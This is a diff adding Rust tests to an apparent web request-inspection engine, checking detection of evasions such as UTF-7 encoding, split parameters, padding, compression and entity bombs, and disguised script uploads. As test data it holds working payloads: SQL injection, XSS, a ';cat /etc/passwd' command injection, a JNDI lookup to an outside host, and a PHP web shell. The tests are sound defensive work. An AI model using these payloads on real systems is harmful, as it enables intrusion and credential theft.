@@ -1,7 +1,7 @@
 //! Ways around the inspection that were found once: each stays closed.
 
 use super::{EMPTY, engine};
-use crate::{OverLimit, RequestView};
+use crate::{AttackClass, OverLimit, RequestView};
 
 /// An injection that is found in any plain value, and its urlencoded form.
 const ATTACK: &str = "1' UNION SELECT password FROM users-- -";
@@ -228,9 +228,92 @@ fn character_sets_that_are_not_read_are_reported() {
             .over_limit
     };
     assert_eq!(over_limit(b"text/html; charset=ibm037", b"\x81\x82"), Some(OverLimit::Encoding));
-    assert_eq!(
-        over_limit(b"", b"<?xml version='1.0' encoding='UTF-7'?>+ADw-a/+AD4-"),
-        Some(OverLimit::Encoding)
-    );
     assert_eq!(over_limit(b"text/xml; charset=utf-8", b"<?xml version='1.0'?><a>ibm</a>"), None);
+}
+
+#[test]
+fn utf_7_is_read_where_it_is_announced() {
+    let text = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
+    assert!(is_attack(&["text/html; charset=utf-7"], text));
+    assert!(is_attack(&["text/xml"], format!("<?xml version='1.0' encoding='UTF-7'?>{text}")));
+}
+
+#[test]
+fn a_value_that_is_given_in_pieces_is_joined() {
+    let form = "id=1'/*&id=*/union/*&id=*/select password from users--";
+    assert!(is_attack(&[FORM], form.replace(' ', "+")));
+    let engine = engine();
+    let mut inspector = engine.inspector().unwrap();
+    let query = b"a=x%27+or+1&b=2&a=%3d1--";
+    let report = inspector.inspect(engine, &RequestView { query: Some(query), ..EMPTY });
+    assert!(report.attack);
+    assert!(report.findings.iter().any(|finding| finding.point == "query.a.pollution"), "{report:?}");
+}
+
+#[test]
+fn padding_hides_nothing() {
+    for padding in ["A".repeat(70_000), "0".repeat(2_000), " ".repeat(5_000), "ab9".repeat(1_000)] {
+        for attack in [
+            ATTACK,
+            "' or 1=1--",
+            "<script>alert(1)</script>",
+            ";cat /etc/passwd",
+            "${jndi:ldap://x.example/a}",
+        ] {
+            let json = format!("{{\"a\":\"{padding}{attack}\"}}");
+            assert!(is_attack(&["application/json"], &json), "{} and {attack}", &padding[..3]);
+        }
+    }
+}
+
+#[test]
+fn data_that_grows_out_of_proportion_is_a_bomb() {
+    let engine = engine();
+    let mut inspector = engine.inspector().unwrap();
+    let mut classes = |headers: &[(&[u8], &[u8])], body: &[u8]| -> Vec<AttackClass> {
+        let report = inspector.inspect(engine, &RequestView { headers, body, ..EMPTY });
+        assert_eq!(report.attack, !report.findings.is_empty());
+        report.findings.iter().map(|finding| finding.class).collect()
+    };
+    let gzip = |bytes: &[u8]| {
+        let deflated = miniz_oxide::deflate::compress_to_vec(bytes, 6);
+        [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0], &deflated[..], &[0; 8]].concat()
+    };
+    let encoded: [(&[u8], &[u8]); 1] = [(b"content-encoding", b"gzip")];
+    assert_eq!(classes(&encoded, &gzip(&vec![b'a'; 3 << 20])), [AttackClass::DataBomb]);
+    let lines: String = (0..200_000).map(|number| format!("{}\n", number * 7919 % 1_000_003)).collect();
+    assert_eq!(classes(&encoded, &gzip(lines.as_bytes())), []);
+    let laughs = (1..10).fold("<!DOCTYPE a [<!ENTITY e0 'lol'>".to_owned(), |all, index| {
+        let before = format!("&e{};", index - 1).repeat(10);
+        all + &format!("<!ENTITY e{index} '{before}'>")
+    });
+    assert!(classes(&[], format!("{laughs}]><a>&e9;</a>").as_bytes()).contains(&AttackClass::DataBomb));
+}
+
+#[test]
+fn an_upload_that_a_server_would_run_is_found() {
+    let upload = |head: &str, content: &str| {
+        let disposition = format!("Content-Disposition: form-data; name=\"f\"; {head}");
+        is_attack(&[MULTIPART], format!("--x\r\n{disposition}\r\n\r\n{content}\r\n--x--\r\n"))
+    };
+    for name in [
+        "a.php",
+        "a.PhP5",
+        "a.php.jpg",
+        "a.phtml",
+        "a.jsp",
+        "a.aspx;.jpg",
+        "a.php%00.png",
+        "x.php. ",
+        ".htaccess",
+    ] {
+        assert!(upload(&format!("filename=\"{name}\""), "x"), "{name}");
+    }
+    for name in
+        ["a.jpg", "report.2024.pdf", "php.txt", "a.jsp.md5sum.txt", "notes about php.docx", "photo.phpx"]
+    {
+        assert!(!upload(&format!("filename=\"{name}\""), "x"), "{name}");
+    }
+    assert!(upload("filename=\"a.jpg\"", "GIF89a<?php system($_GET['c']);?>"));
+    assert!(upload("filename=\"a.txt\"", "AddType application/x-httpd-php .jpg"));
 }
